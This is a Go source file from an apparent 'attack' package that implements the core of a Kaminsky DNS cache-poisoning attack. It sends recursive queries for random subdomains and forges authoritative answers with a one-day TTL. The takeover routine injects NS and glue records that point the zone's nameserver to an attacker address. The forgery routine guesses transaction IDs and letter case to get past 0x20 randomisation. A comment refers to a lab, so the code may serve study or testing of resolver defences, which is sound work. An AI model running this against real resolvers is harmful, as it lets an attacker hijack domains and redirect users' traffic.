package attack

import (
	"encoding/binary"
	"net/netip"
	"strings"

	mdns "github.com/miekg/dns"
)

const (
	headerLen = 12
	// RFC 6335, section 6: "the Dynamic Ports, also known as the Private or Ephemeral
	// Ports, from 49152-65535".
	firstPort = 49152
	ephemeral = 1<<16 - firstPort
	// forgedTTL is how long forged records may be kept: as long as caches let them.
	forgedTTL = 86400
)

// query packs a question that asks for recursion.
func query(id uint16, name string, qtype uint16) []byte {
	m := &mdns.Msg{Question: []mdns.Question{{Name: dot(name), Qtype: qtype, Qclass: mdns.ClassINET}}}
	m.Id, m.RecursionDesired = id, true
	return packed(m)
}

func packed(m *mdns.Msg) []byte {
	b, err := m.Pack()
	if err != nil {
		panic("attack: " + err.Error()) // the lab's names have been checked
	}
	return b
}

// dot completes a name.
func dot(name string) string { return strings.TrimSuffix(name, ".") + "." }

// below returns a name below another that nobody has asked for: four digits or more,
// which have no case.
func (p *Program) below(zone string) string {
	const digits = "0123456789"
	b := make([]byte, 8)
	for i := range b {
		b[i] = digits[p.dice.IntN(len(digits))]
	}
	return strings.TrimPrefix(string(b)+"."+dot(zone), ".")
}

// answering begins the true-looking answer of an authoritative server.
func answering(q mdns.Question, a netip.Addr) *mdns.Msg {
	m := &mdns.Msg{Question: []mdns.Question{q}, Compress: true}
	m.Response, m.Authoritative = true, true
	m.Answer = []mdns.RR{record(q.Name, a)}
	return m
}

func record(name string, a netip.Addr) mdns.RR {
	return &mdns.A{Hdr: mdns.RR_Header{Name: name, Rrtype: mdns.TypeA, Class: mdns.ClassINET, Ttl: forgedTTL}, A: a.AsSlice()}
}

// takeover adds what Kaminsky's run is for: that the zone's server is another one, at the
// attacker's address. It lies in the zone's own bailiwick.
func takeover(m *mdns.Msg, zone string, a netip.Addr) {
	server := "ns." + dot(zone)
	m.Ns = []mdns.RR{&mdns.NS{Hdr: mdns.RR_Header{Name: dot(zone), Rrtype: mdns.TypeNS, Class: mdns.ClassINET, Ttl: forgedTTL}, Ns: server}}
	m.Extra = []mdns.RR{record(server, a)}
}

// forgery is a packed answer whose id, and the case of whose letters, can be set.
type forgery struct {
	b       []byte
	letters []int // places of the question's letters
}

func forge(m *mdns.Msg) *forgery {
	f := &forgery{b: packed(m)}
	for at := headerLen; at < len(f.b) && f.b[at] != 0; at += 1 + int(f.b[at]) {
		for i := at + 1; i <= at+int(f.b[at]); i++ {
			if c := f.b[i] | 0x20; 'a' <= c && c <= 'z' {
				f.letters = append(f.letters, i)
			}
		}
	}
	return f
}

// guess sets the id, and with mixed a random case of each letter.
func (f *forgery) guess(id uint16, mixed func() bool) []byte {
	binary.BigEndian.PutUint16(f.b, id)
	for _, at := range f.letters {
		f.b[at] |= 0x20
		if mixed != nil && mixed() {
			f.b[at] &^= 0x20
		}
	}
	return f.b
}

// Letters counts the letters of a name: those whose case can be random.
func Letters(name string) int {
	n := 0
	for _, c := range []byte(strings.ToLower(name)) {
		if 'a' <= c && c <= 'z' {
			n++
		}
	}
	return n
}
